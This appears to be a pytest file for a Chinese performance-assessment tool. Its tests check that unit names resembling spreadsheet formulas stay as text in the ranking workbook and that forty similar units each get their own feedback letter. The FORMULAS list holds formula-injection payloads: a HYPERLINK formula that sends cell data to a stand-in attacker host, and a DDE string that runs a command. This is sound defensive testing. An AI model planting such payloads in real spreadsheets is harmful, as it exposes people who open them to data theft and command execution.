"""Groups 1 and 2 of issue #11: what users typed stays text in the ranking workbook, and every unit gets its own letter."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from hardening_support import kaohe
from openpyxl import load_workbook

SHEET_HEADER = "单位代码,单位名称,分组,分组类型,基础分,资金投入加分,存在问题,改进建议"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)"]


def _csv_line(*cells: object) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow(cells)
    return buffer.getvalue()


def _unit(code: str, name: str) -> str:
    return _csv_line(code, name, "市级部门", "被考核单位", "弥阳镇", "否", "ML-C01", f"{code.lower()}@example.org")


def _aggregate(capsys, tmp_path: Path, key: str, units: list[tuple[str, str]]) -> dict:  # type: ignore[no-untyped-def]
    sheet = tmp_path / "sheet.csv"
    lines = [SHEET_HEADER] + [_csv_line(code, name, "弥阳镇", "非贫困乡镇", 80 + n % 15, 1, "", "") for n, (code, name) in enumerate(units)]
    sheet.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, out, err = kaohe(capsys, "results", "aggregate", key, "--input", str(sheet), "--at", "2019-02-20T10:00", "--json")
    assert code == 0, err
    return json.loads(out)


def test_names_that_look_like_formulas_stay_text_in_the_ranking(capsys, kaohe_env: Path, tmp_path: Path, mile_cycle) -> None:  # type: ignore[no-untyped-def]
    units = [(f"ML-F{n}", name) for n, name in enumerate(FORMULAS)]
    key = mile_cycle([_unit(code, name) for code, name in units])
    outcome = _aggregate(capsys, tmp_path, key, units)
    workbook = load_workbook(Path(outcome["documents"]) / "考核排名.xlsx")
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert set(FORMULAS) <= names


def test_forty_units_whose_names_join_alike_get_forty_letters(capsys, kaohe_env: Path, tmp_path: Path, mile_cycle) -> None:  # type: ignore[no-untyped-def]
    units = [("ML_A", "一局"), ("ML", "A_一局")] + [(f"ML-B{n:02d}", f"某局{n}") for n in range(38)]
    key = mile_cycle([_unit(code, name) for code, name in units])
    outcome = _aggregate(capsys, tmp_path, key, units)
    letters = sorted((Path(outcome["documents"]) / "反馈意见").glob("*.docx"))
    assert len(letters) == 40
    code, out, err = kaohe(capsys, "results", "show", key, "--json")
    assert code == 0, err
    paths = [line["letter"] for line in json.loads(out)["results"]]
    assert len(paths) == 40 and len(set(paths)) == 40
